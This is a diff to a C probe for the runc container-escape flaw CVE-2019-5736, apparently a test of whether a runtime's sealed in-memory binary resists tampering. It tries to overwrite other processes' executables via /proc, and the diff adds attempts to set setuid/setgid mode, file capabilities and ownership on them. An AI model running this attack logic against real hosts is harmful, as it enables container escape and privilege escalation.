@@ -3,7 +3,8 @@
  * overwrite: the first process of a container that is after the runtime (CVE-2019-5736). Opens the
  * executables of all other processes that it sees, and tries to change those that are memory, while
  * they are executed and, by the descriptors that it keeps, when they are not any more. Ends with its
- * standard input, and says what it has seen, opened for writing, and changed.
+ * standard input, and says how often it has seen one, opened it for writing, changed its content, and
+ * changed its owner or mode.
  */
 #include <ctype.h>
 #include <dirent.h>
@@ -13,11 +14,13 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
+#include <sys/stat.h>
+#include <sys/xattr.h>
 #include <unistd.h>
 
 #define KEPT 16
 
-static unsigned long seen, opened, changed;
+static unsigned long seen, opened, changed, marked;
 
 static int is_memory(int file)
 {
@@ -37,7 +40,16 @@ static void change(int file)
 	changed += ftruncate(file, 1 << 20) == 0;
 	changed += fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096) == 0;
 	changed += mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) != MAP_FAILED;
-	changed += fchmod(file, 0644) == 0;
+}
+
+/* What no seal prevents: whoever executes the file next would be another user. */
+static void mark(const char *link)
+{
+	static const unsigned char capability[20] = {1, 0, 0, 2, 1};
+
+	marked += chmod(link, 06777) == 0;
+	marked += setxattr(link, "security.capability", capability, sizeof(capability), 0) == 0;
+	marked += chown(link, 1000, 1000) == 0;
 }
 
 static void attack(int file)
@@ -57,6 +69,7 @@ static void attack(int file)
 		close(writable);
 	}
 	changed += open(link, O_WRONLY | O_TRUNC | O_CLOEXEC) >= 0;
+	mark(link);
 }
 
 static void attack_all(int *kept)
@@ -65,7 +78,7 @@ static void attack_all(int *kept)
 	struct dirent *entry;
 
 	while ((entry = readdir(processes))) {
-		char path[64];
+		char path[sizeof("/proc//exe") + sizeof(entry->d_name)];
 		int file;
 
 		if (!isdigit(entry->d_name[0]) || atoi(entry->d_name) == getpid())
@@ -94,6 +107,6 @@ int main(void)
 		attack_all(kept);
 	for (unsigned long i = 0; i < seen && i < KEPT; i++)
 		attack(kept[i]);
-	printf("seen %lu, opened %lu, changed %lu\n", seen, opened, changed);
+	printf("seen %lu, opened %lu, changed %lu, marked %lu\n", seen, opened, changed, marked);
 	return 0;
 }
